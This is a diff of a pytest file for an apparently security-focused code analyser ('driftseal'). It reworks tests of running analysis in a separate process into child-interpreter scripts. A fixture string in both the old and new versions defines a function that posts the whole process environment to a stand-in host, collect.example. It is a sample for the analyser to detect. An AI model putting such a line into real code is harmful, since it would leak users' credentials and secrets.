@@ -1,8 +1,11 @@
-"""Computing in a second process: the same answer as here, or none."""
+"""Computing in a second process: the same answer as here, or none.
+
+Each in an interpreter of its own, since nothing is begun beside another thread and whoever runs tests side by side has
+some. The number of cores is that machine's affair, so the interpreter is told of two.
+"""
 
 from __future__ import annotations
 
-import os
 import subprocess
 import sys
 import threading
@@ -10,76 +13,64 @@ import time
 
 import pytest
 
-from driftseal.limits import DEFAULT_LIMITS
-from driftseal.observe import beside, program
+from driftseal.observe import beside
 
 _SECONDS = 60.0
-_STEALS = b"""
-import os, requests
-def report(name: str) -> str:
-    requests.post("https://collect.example/in", json=dict(os.environ))
-    return name
+_TWO_CORES = """
+import os, time
+from driftseal.observe import beside
+os.sched_getaffinity = lambda _: {0, 1}
+def begun(work):
+    running = beside.begin(work)
+    assert running is not None
+    return running
 """
 
-two_cores = pytest.mark.skipif(
-    sys.platform != "linux" or len(os.sched_getaffinity(0)) == 1, reason="needs Linux and two cores"
-)
+linux = pytest.mark.skipif(sys.platform != "linux", reason="only Linux tells that no other thread runs")
 
 
-@pytest.fixture
-def _alone() -> None:
-    if sys.platform == "linux" and len(os.listdir("/proc/self/task")) > 1:  # noqa: PTH208  # a number alone
-        pytest.skip("another test left a thread, beside which nothing is begun")
+def run(script: str) -> None:
+    ran = subprocess.run(
+        [sys.executable, "-c", _TWO_CORES + script], capture_output=True, text=True, timeout=_SECONDS, check=False
+    )
+    assert (ran.returncode, ran.stdout, ran.stderr) == (0, "", "")
 
 
-def _begun(work: beside.Work) -> beside.Beside:
-    found = beside.begin(work)
-    assert found is not None
-    return found
-
-
-@pytest.mark.usefixtures("_alone")
-@two_cores
+@linux
 def test_another_process_answers() -> None:
-    running = _begun(lambda: ["a\udcff", os.getpid(), None])
-    found = running.result(_SECONDS)
-    assert isinstance(found, list)
-    assert found[0] == "a\udcff"
-    assert found[1] != os.getpid()
+    run("""
+found = begun(lambda: ["a\\udcff", os.getpid(), None]).result(60.0)
+assert found[0] == "a\\udcff"
+assert found[1] != os.getpid()
+""")
 
 
-@pytest.mark.usefixtures("_alone")
-@two_cores
+@linux
 def test_an_answer_may_be_larger_than_a_pipe() -> None:
-    assert _begun(lambda: "x" * 3_000_000).result(_SECONDS) == "x" * 3_000_000
+    run('assert begun(lambda: "x" * 3_000_000).result(60.0) == "x" * 3_000_000')
 
 
-@pytest.mark.usefixtures("_alone")
-@two_cores
+@linux
 def test_what_fails_there_has_no_answer() -> None:
-    def fail() -> None:
-        raise ValueError("no")
-
-    assert _begun(fail).result(_SECONDS) is None
+    run("assert begun(lambda: 1 / 0).result(60.0) is None")
 
 
-@pytest.mark.usefixtures("_alone")
-@two_cores
+@linux
 def test_what_takes_too_long_is_ended() -> None:
     began = time.monotonic()
-    assert _begun(lambda: time.sleep(_SECONDS)).result(0.1) is None
+    run("assert begun(lambda: time.sleep(60)).result(0.1) is None")
     assert time.monotonic() - began < _SECONDS / 2
 
 
-@pytest.mark.usefixtures("_alone")
-@two_cores
+@linux
 def test_the_other_process_holds_no_file_of_this_one() -> None:
-    inner, outer = os.pipe()
-    running = _begun(lambda: time.sleep(_SECONDS))
-    os.close(outer)
-    assert os.read(inner, 1) == b""
-    os.close(inner)
-    assert running.result(0.0) is None
+    run("""
+inner, outer = os.pipe()
+running = begun(lambda: time.sleep(60))
+os.close(outer)
+assert os.read(inner, 1) == b""
+assert running.result(0.0) is None
+""")
 
 
 def test_beside_another_thread_nothing_is_begun() -> None:
@@ -93,32 +84,21 @@ def test_beside_another_thread_nothing_is_begun() -> None:
         thread.join()
 
 
-_SCRIPT = """
-import os, time
-from driftseal.observe import beside
-
-running = beside.begin(lambda: os.getpid())
-print(running is not None and running.result(60.0) not in {None, os.getpid()})
-failing = beside.begin(lambda: 1 / 0)
-print(failing is not None and failing.result(60.0))
-slow = beside.begin(lambda: time.sleep(60))
-print(slow is not None and slow.result(0.1))
-"""
-
-
-@two_cores
-def test_a_process_without_other_threads_is_answered_by_another() -> None:
-    """In an interpreter of its own: whoever runs tests side by side has threads."""
-    ran = subprocess.run([sys.executable, "-c", _SCRIPT], capture_output=True, text=True, timeout=_SECONDS, check=True)
-    assert (ran.stdout, ran.stderr) == ("True\nNone\nNone\n", "")
-
-
-@pytest.mark.usefixtures("_alone")
-@two_cores
+@linux
 def test_what_is_found_ahead_is_what_is_found_here() -> None:
-    files = [(f"server/part{number}.py", _STEALS + b"# " + b"x" * 140_000) for number in range(4)]
-    here, ahead = program.read(files, DEFAULT_LIMITS), program.read(files, DEFAULT_LIMITS)
-    ahead.ahead()
-    assert vars(ahead)["_beside"] is not None
-    assert ahead.facts == here.facts
-    assert {fact.path for fact in here.facts.facts} == {path for path, _ in files}
+    run("""
+from driftseal.limits import DEFAULT_LIMITS
+from driftseal.observe import program
+steals = b'''
+import os, requests
+def report(name: str) -> str:
+    requests.post("https://collect.example/in", json=dict(os.environ))
+    return name
+'''
+files = [(f"server/part{number}.py", steals + b"# " + b"x" * 140_000) for number in range(4)]
+here, ahead = program.read(files, DEFAULT_LIMITS), program.read(files, DEFAULT_LIMITS)
+ahead.ahead()
+assert vars(ahead)["_beside"] is not None
+assert ahead.facts == here.facts
+assert {fact.path for fact in here.facts.facts} == {path for path, _ in files}
+""")
